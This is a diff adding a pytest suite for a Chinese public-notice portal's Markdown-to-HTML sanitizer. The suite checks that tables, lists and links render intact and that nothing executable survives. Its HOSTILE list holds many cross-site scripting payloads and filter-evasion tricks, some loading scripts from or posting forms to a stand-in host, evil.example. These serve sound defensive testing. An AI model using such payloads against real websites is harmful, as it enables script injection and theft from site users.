@@ -1,0 +1,241 @@
+"""Markdown of a body: what an office writes comes out whole, and nothing executable comes out at all."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from html.parser import HTMLParser
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown import markdown
+
+from gongkai import written
+from gongkai.addresses import INSIDE
+from gongkai.markup import ATTRIBUTES, SCHEMES, TAGS, link_fault, linked_record, links_of, to_html
+from gongkai.written import clean_page
+from unit.portal import HEAD, STEADY, files_of, refused, show
+
+INERT = {"rel", "title"}
+"""Attributes that neither run nor fetch: one that the cleaner sets, one that only holds words."""
+
+
+class Reader(HTMLParser):
+    """Collects what a browser would make of some HTML: tags with attributes, and the text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, {name: value or "" for name, value in attrs}))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def seen(html: str) -> Reader:
+    reader = Reader()
+    reader.feed(html)
+    reader.close()
+    return reader
+
+
+def assert_harmless(html: str, tags: set[str] = TAGS, allowed: Mapping[str, set[str]] = ATTRIBUTES) -> None:
+    for tag, attributes in seen(html).tags:
+        assert tag in tags
+        assert set(attributes) <= allowed.get(tag, set()) | allowed.get("*", set()) | INERT
+        for name in ("href", "src"):
+            assert_leads_nowhere_bad(attributes.get(name, "").strip().removeprefix(INSIDE))
+
+
+def assert_leads_nowhere_bad(target: str) -> None:
+    assert urlsplit(target).scheme.lower() in SCHEMES | {""}
+    # A browser passes over tabs and line ends in an address, not over spaces.
+    plain = target.lower().translate(dict.fromkeys(map(ord, "\t\r\n")))
+    assert not plain.startswith(("javascript:", "data:", "vbscript:"))
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x' onerror='alert(1)'/>",
+    "![图](x.png)",
+    "![图](javascript:alert(1))",
+    "<svg onload=alert(1)><circle/></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<iframe src=https://evil.example></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example><input name=x></form>",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<p onclick=alert(1)>x</p>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](https://ok.example \"' onmouseover='alert(1)\")",
+    '[x](https://ok.example" onmouseover="alert(1))',
+    "[x]: javascript:alert(1)\n\n[点][x]",
+    "[点][x]\n\n[x]: <data:text/html,x>",
+    "<javascript:alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "<!-- <script>alert(1)</script> -->",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
+    "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=a> | [x](javascript:a) |",
+    "# <script>alert(1)</script>",
+    "- <iframe src=x>",
+    "> <object data=x>",
+    "<details ontoggle=alert(1) open>x</details>",
+    "<h1 id=main>x</h1>",
+    "x <b>粗</b> y",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_executable_survives(text: str) -> None:
+    html = str(to_html(text, {}))
+    assert_harmless(html)
+    assert "<script" not in html.lower()
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_executable_survives_among_other_text(text: str) -> None:
+    assert_harmless(str(to_html(f"前文 {text} 后文\n\n{text}\n\n1. 项\n   {text}\n", {})))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hand_written_pages_are_cleaned_by_an_allow_list_too(text: str, tmp_path: Path) -> None:
+    shown = show(tmp_path, {})
+    for html in (text, f"<p>{text}</p>", markdown(text, extensions=["tables", "attr_list", "def_list"])):
+        assert_harmless(clean_page(html, shown), written.TAGS, written.ATTRIBUTES)
+
+
+def test_a_hand_written_page_links_to_records(tmp_path: Path) -> None:
+    shown = show(tmp_path, {"releases/a": HEAD + "category: 通知公告\n"})
+    html = clean_page(
+        '<p><a href="../releases/a.yml#body">甲</a> <a href="../releases/b.yml">乙</a></p>', shown
+    )
+    assert f'href="{INSIDE}releases/a/#body"' in html
+    assert 'href="../releases/b.yml"' in html
+
+
+@given(st.text("<>/&;#\"'=()[]!`*_|-:\n abjscriptonle示例", max_size=80))
+@STEADY
+def test_no_text_at_all_comes_out_executable(text: str) -> None:
+    assert_harmless(str(to_html(text, {})))
+
+
+@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4))
+@STEADY
+def test_no_mixture_of_hostile_texts_comes_out_executable(texts: list[str]) -> None:
+    assert_harmless(str(to_html("".join(texts), {})))
+
+
+def test_markup_that_was_typed_is_shown_as_typed() -> None:
+    assert "<script>alert(1)</script>" in seen(str(to_html("写 <script>alert(1)</script> 字", {}))).text
+
+
+def test_a_chinese_table_comes_out_whole() -> None:
+    html = str(to_html("| 项目 | 金额（元） |\n|---|---|\n| 首次申领 | 免费 |\n| 换领 | 20 |\n", {}))
+    assert [tag for tag, _ in seen(html).tags if tag in {"th", "td"}] == ["th", "th", "td", "td", "td", "td"]
+    assert "<td>免费</td>" in html
+
+
+def test_chinese_lists_come_out_in_order_and_nested() -> None:
+    html = str(to_html("1. 第一\n2. 第二\n    - 甲\n    - 乙\n\n文\n\n3. 第三\n", {}))
+    tags = [tag for tag, _ in seen(html).tags]
+    assert tags.count("ol") == 2
+    assert tags.count("ul") == 1
+    assert tags.count("li") == 5
+    assert '<ol start="3">' in html
+
+
+def test_headings_begin_below_the_pages_own() -> None:
+    html = str(to_html("# 一\n\n## 二\n\n#### 四\n\n###### 六\n", {}))
+    assert [tag for tag, _ in seen(html).tags] == ["h3", "h4", "h6", "h6"]
+
+
+def test_emphasis_quotes_terms_and_notes_come_out() -> None:
+    html = str(to_html("**重要**：见注①。\n\n> 引文\n\n术语\n:   解释\n\n---\n\n① 注文\n", {}))
+    tags = [tag for tag, _ in seen(html).tags]
+    assert {"strong", "blockquote", "dl", "dt", "dd", "hr"} <= set(tags)
+    assert "注文" in html
+
+
+def test_web_mail_and_telephone_links_survive() -> None:
+    html = str(
+        to_html("[网](https://a.example/?x=1&y=2) [信](mailto:a@a.example) [话](tel:12345) [锚](#items)", {})
+    )
+    assert [attrs["href"] for tag, attrs in seen(html).tags if tag == "a"] == [
+        "https://a.example/?x=1&y=2", "mailto:a@a.example", "tel:12345", "#items",
+    ]  # fmt: skip
+    assert_harmless(html)
+
+
+def test_a_link_to_a_record_becomes_an_address_inside() -> None:
+    html = str(to_html("[甲](../land/a.yml)", {"../land/a.yml": "land/a/"}))
+    assert f'href="{INSIDE}land/a/"' in html
+    assert linked_record("../land/a.yml#x", "fees") == "land/a"
+    assert linked_record("a.yml", "fees") == "fees/a"
+
+
+@pytest.mark.parametrize(
+    "target", ["https://a.example", "mailto:a@a.example", "tel:12345", "#x", "../land/x.yml"]
+)
+def test_links_that_may_be_written(target: str) -> None:
+    assert link_fault(target) is None
+
+
+@pytest.mark.parametrize(
+    "target", ["javascript:alert(1)", "data:x", "ftp://a.example", "x.html", "/x", "http://[x"]
+)
+def test_links_that_may_not(target: str) -> None:
+    assert link_fault(target)
+    [problem] = refused("releases", HEAD + f"category: 通知公告\nbody: |\n  甲[乙]({target})\n")
+    assert problem.startswith("content/releases/shili.yml:6:")
+
+
+def test_links_are_found_where_they_were_typed() -> None:
+    text = "甲[乙](https://a.example)\n\n[丙]: ../land/x.yml\n"
+    assert [(text[offset:][: len(target)], target) for offset, target in links_of(text)] == [
+        ("https://a.example", "https://a.example"), ("../land/x.yml", "../land/x.yml"),
+    ]  # fmt: skip
+
+
+def test_hostile_values_of_every_field_are_escaped_on_the_page(tmp_path: Path) -> None:
+    evil = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
+    text = (
+        f"title: |-\n  {evil}\nunit: office\npublished_on: 2026-03-02\nsummary: |-\n  {evil}\ncategory: 通知公告\n"
+        f"body: |\n  {evil}\narticles:\n  - id: a\n    heading: |-\n      {evil}\n    text: |\n      {evil}\n"
+        f"source:\n  name: |-\n    {evil}\n"
+        f"changes:\n  - id: c\n    on: 2026-03-03\n    kind: 更正\n    note: |-\n      {evil}\n"
+    )
+    shown = show(tmp_path, {"releases/a": text})
+    page = files_of(shown, "releases/a")["releases/a/index.html"]
+    assert "alert(1)" in page
+    assert [tag for tag, _ in seen(page).tags if tag in {"script", "img"}] == []
+    assert [attrs for _, attrs in seen(page).tags if any(name.startswith("on") for name in attrs)] == []
